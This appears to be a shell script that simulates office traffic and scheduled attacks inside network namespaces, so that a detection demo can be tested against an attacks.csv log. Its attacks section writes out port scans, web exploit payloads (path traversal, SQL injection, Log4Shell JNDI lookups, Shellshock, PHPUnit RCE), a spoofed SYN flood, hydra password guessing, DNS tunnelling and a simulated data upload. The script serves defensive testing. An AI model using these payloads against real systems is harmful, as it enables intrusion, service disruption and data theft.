# What the people, the machines and the attackers of the demo do; sourced by make.sh.
#
# Every actor is a function that does its rounds until the day is over. Attacks begin at fixed seconds and write
# their time, source and target to attacks.csv, so that tests can ask whether they were found.

live_a_day() {
  BEGIN=$(date +%s)
  local actors=()
  switch_printer_on
  for actor in at_desk1 at_desk2 at_note1 sensor watchman beacon attackers; do
    "$actor" >"$WORK/$actor.log" 2>&1 &
    actors+=($!)
  done
  wait "${actors[@]}" || true
}

now() { echo $(($(date +%s) - BEGIN)); }
day_lasts() { [ "$(now)" -lt "$DAY" ]; }
until_second() { while [ "$(now)" -lt "$1" ] && day_lasts; do sleep 0.2; done; }
pause() { sleep "$((RANDOM % ($2 - $1 + 1) + $1)).$((RANDOM % 10))"; }
one_of() { shift $((RANDOM % $#)); echo "$1"; }

get() {
  local net=$1
  shift
  in_net "$net" curl --silent --show-error --output /dev/null --cacert "$WORK/keys/ca.pem" --max-time 20 "$@" || true
}

# The address comes by DHCP, the IPv6 one by router advertisement.
switch_on() {
  cat >"$WORK/udhcpc.sh" <<'LEASE'
#!/bin/sh
case $1 in
  bound) ip addr flush dev "$interface" scope global to 0/0; ip addr add "$ip/16" dev "$interface"; ip route replace default via "$router" ;;
esac
LEASE
  chmod +x "$WORK/udhcpc.sh"
  in_net "$1" busybox udhcpc -f -i eth0 -s "$WORK/udhcpc.sh" -x "hostname:$1" -t 5 -T 2 &
  for _ in $(seq 60); do
    ip -n "ftdemo-$1" route show default | grep -q via && break
    sleep 0.2
  done
}

at_desk1() {
  RANDOM=1
  local turn=0
  switch_on desk1
  in_net desk1 chronyd -Q -t 12 -f /dev/null "server time.example iburst maxsamples 4" || true
  while day_lasts; do
    case $((turn++ % 10)) in
      0 | 1) browse desk1 "$(one_of https://www.news.example https://shop.example)" ;;
      2) get desk1 "http://intranet.office.example/$(one_of index orders prices).html" ;;
      3) browse desk1 https://intranet.office.example ;;
      4) send_mail desk1 office@office.example "orders@partner.example" ;;
      5) in_net desk1 smbclient -N //FILES/share -I 10.20.0.10 -s "$WORK/smb.conf" -c "get orders.csv /dev/null; ls" ;;
      6) watch_clip desk1 ;;
      7) in_net desk1 curl -s --cacert "$WORK/keys/ca.pem" -u office:demo imaps://mail.office.example/INBOX -X "FETCH 1:* (FLAGS)" ;;
      8) get desk1 "http://printer.office.example/" ;;
      9) browse desk1 http://www.news.example ;;
    esac || true
    pause 2 6
  done
}

at_desk2() {
  RANDOM=2
  local turn=0
  sleep 2
  switch_on desk2
  in_net desk2 dig +noall @224.0.0.251 -p 5353 _ipp._tcp.local PTR +time=1 +tries=1 || true
  in_net desk2 sh -c 'printf "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n" | ncat -u -w 1 239.255.255.250 1900' || true
  in_net desk2 nmblookup -s "$WORK/smb.conf" FILES || true
  while day_lasts; do
    case $((turn++ % 9)) in
      0) in_net desk2 ssh -i "$WORK/keys/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        root@files.office.example "seq 2000; sleep 2; echo done" >/dev/null ;;
      1) in_net desk2 smbclient -N //files.office.example/share -s "$WORK/smb.conf" \
        -c "put $WORK/site/img/1.png photo.png; get plan.pdf /dev/null; del photo.png" ;;
      2) get desk2 ftp://anonymous:@files.office.example/pub/stock.txt ;;
      3) browse desk2 https://www.news.example ;;
      4) browse desk2 http://update.example ;;
      5) in_net desk2 ping -c 4 -i 0.5 -s 120 198.51.100.10; in_net desk2 ping -6 -c 3 -i 0.5 www.news.example ;;
      6) watch_clip desk2 ;;
      7) send_mail desk2 info@office.example "sales@partner.example" ;;
      8) in_net desk2 traceroute -n -q 1 -m 6 198.51.100.10; in_net desk2 ping -c 2 -s 3000 10.20.0.10 ;;
    esac || true
    pause 2 6
  done
}

at_note1() {
  RANDOM=3
  local turn=0
  sleep 4
  switch_on note1
  get note1 http://update.example/update.bin
  while day_lasts; do
    case $((turn++ % 5)) in
      0) browse note1 https://shop.example ;;
      1) get note1 --http1.1 "https://api.weather.example/now.json" -o /dev/null -4 http://shop.example/prices.html ;;
      2) get note1 -6 "https://www.news.example/news.html" ;;
      3) get note1 tftp://10.20.0.1/phone.cfg ;;
      4) get note1 "http://nothing-here.example/" ;;
    esac
    pause 2 7
  done
}

# Mail also comes in from outside, and the server looks after itself.
watchman() {
  RANDOM=4
  while day_lasts; do
    in_net srv logger --server 10.20.0.10 --port 514 --udp --tag cron "backup of the shares finished" || true
    in_net rt logger --server 10.20.0.10 --port 514 --udp --tag dnsmasq "lease renewed" || true
    in_net srv snmpget -v2c -c public -t 1 -r 1 10.20.0.30 1.3.6.1.2.1.1.1.0 1.3.6.1.2.1.1.3.0 || true
    in_net inet swaks --silent 2 --server 192.0.2.2 --local-interface 203.0.113.25 --helo mx.partner.example --tls-optional \
      --from sales@partner.example --to office@office.example --header "Subject: your order" --body "It is on its way." || true
    pause 18 26
  done
}

sensor() {
  switch_on sens
  in_net sens timeout "$DAY" mosquitto_sub -h 10.20.0.10 -k 15 -i wall-panel -t 'office/#' &
  local degrees=180
  while day_lasts; do
    degrees=$((degrees + RANDOM % 5 - 2))
    in_net sens mosquitto_pub -h 10.20.0.10 -i thermometer -q 1 -t office/hall/temperature -m "{\"celsius\":$((degrees / 10)).$((degrees % 10))}" || true
    sleep 8
  done
}

# browse NET ORIGIN: a page and what is on it, over as few connections as a browser would take.
browse() {
  local page
  page=$(one_of index about prices orders news weather)
  get "$1" --compressed -A "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" \
    "$2/$page.html" -o /dev/null "$2/style.css" -o /dev/null "$2/img/$(one_of 1 2 3 4).png"
  [ "$2" = https://www.news.example ] && get "$1" "https://cdn.news.example/img/$(one_of 1 2 3 4).png" || true
}

watch_clip() {
  in_net "$1" timeout 25 "$WORK/venv/bin/python" "$HERE/quic.py" get "$WORK/keys/ca.pem" \
    https://video.example/index.html https://video.example/clip.mp4
}

send_mail() {
  local tls=--tls-optional
  [ "$1" = desk2 ] && tls="" # one program that never learnt STARTTLS
  in_net "$1" swaks --silent 2 --server mail.office.example -4 --helo "$1.office.example" $tls \
    --from "$2" --to "$3" --header "Subject: order $RANDOM" --body "Please send ten more." --attach-type text/csv --attach "@$WORK/ftp/pub/stock.txt"
}

# ---- attacks ------------------------------------------------------------------------------------

# A program on the notebook calls home every ten seconds.
beacon() {
  until_second 20
  note_attack beacon note1 198.51.100.66 call_home
}

call_home() {
  while day_lasts; do
    get note1 --insecure --http1.1 -A "sync/1.0" -d "id=4711&state=idle" https://cdn-sync.example/poll
    sleep 10
  done
}

attackers() {
  until_second 30 && note_attack host-sweep 10.20.0.66 10.20.0.0/26 sweep
  until_second 45 && note_attack port-scan 10.20.0.66 10.20.0.10 scan_ports
  until_second 70 && note_attack web-attack 203.0.113.66 10.20.0.10 attack_web
  until_second 100 && note_attack syn-flood 203.0.113.100-129 10.20.0.10 flood
  until_second 125 && note_attack ssh-brute-force 203.0.113.77 10.20.0.10 guess_ssh
  until_second 150 && note_attack ftp-brute-force 10.20.0.66 10.20.0.10 guess_ftp
  until_second 175 && note_attack dns-tunnel note1 10.20.0.1 tunnel
  until_second 190 && note_attack upload note1 198.51.100.66 carry_off
}

# note_attack NAME SOURCE TARGET FUNCTION: runs it and writes down when it was; note1 becomes its address.
note_attack() {
  local start source=$2
  [ "$source" = note1 ] && source=$(ip -n ftdemo-note1 -4 -o addr show eth0 | grep -o '10\.20\.[0-9.]*' | head -1)
  start=$(date +%s.%3N)
  "$4" || true
  echo "$1,$start,$(date +%s.%3N),$source,$3" >>"$WORK/attacks.csv"
}

sweep() { in_net rogue nmap -n -sn -T4 10.20.0.0/26; }

scan_ports() { in_net rogue nmap -n -Pn -sS -T4 --max-rate 400 --top-ports 800 10.20.0.10; }

attack_web() {
  local from="--interface 203.0.113.66" to=http://192.0.2.2
  local request
  while read -r request; do
    # The words of a line are curl's arguments; the shell takes the quotes off.
    eval "get inet $from $request"
    sleep 0.7
  done <<REQUESTS
-A "Mozilla/5.0 (compatible; Nmap Scripting Engine)" $to/
--path-as-is "$to/../../../../etc/passwd"
--path-as-is "$to/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh" -d "echo; id"
-A "cmd.exe" "$to/index.html"
"$to/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"
"$to/prices.html?id=1%27%20OR%20%271%27=%271"
"$to/prices.html?id=1%20UNION%20SELECT%20name,password%20FROM%20users--"
-A "sqlmap/1.7 (https://sqlmap.org)" "$to/orders.html?id=1%20AND%20SLEEP(5)"
-A '\${jndi:ldap://203.0.113.66:1389/a}' "$to/index.html"
-H 'X-Api-Version: \${jndi:\${lower:l}\${lower:d}ap://203.0.113.66/b}' "$to/"
-A '() { :; }; /bin/cat /etc/passwd' "$to/cgi-bin/status"
"$to/about.html?name=%3Cscript%3Ealert(1)%3C/script%3E"
"$to/index.php?page=php://filter/convert.base64-encode/resource=config"
-X POST "$to/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php" -d "<?php echo 1;"
"$to/.git/config"
"$to/wp-login.php" -d "log=admin&pwd=admin"
"$to/shell.jsp?cmd=whoami"
REQUESTS
}

# Three thousand SYNs in about two seconds, from thirty addresses that nobody answers for.
flood() {
  local last senders=()
  for last in $(seq 100 129); do
    in_net inet hping3 -q -c 100 -i u20000 -S -p 80 -a "203.0.113.$last" 192.0.2.2 &
    senders+=($!)
  done
  wait "${senders[@]}" || true
}

guess_ssh() {
  seq -f "password%g" 200 >"$WORK/guesses"
  in_net inet ip route add 192.0.2.2/32 via 192.0.2.5 src 203.0.113.77
  in_net inet timeout 22 hydra -q -I -t 12 -l admin -P "$WORK/guesses" ssh://192.0.2.2
  in_net inet ip route del 192.0.2.2/32
}

guess_ftp() {
  seq -f "letmein%g" 60 >"$WORK/guesses"
  in_net rogue timeout 22 hydra -q -I -t 4 -l admin -P "$WORK/guesses" ftp://10.20.0.10
}

# Sixty questions whose names carry data.
tunnel() {
  local part
  for part in $(seq 60); do
    in_net note1 dig +noall +time=1 +tries=1 @10.20.0.1 TXT \
      "$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).$part.t.tunnel.example"
    sleep 0.1
  done
}

carry_off() {
  head -c 400000 /dev/urandom >"$WORK/loot"
  get note1 -A "sync/1.0" -T "$WORK/loot" http://cdn-sync.example/put
}
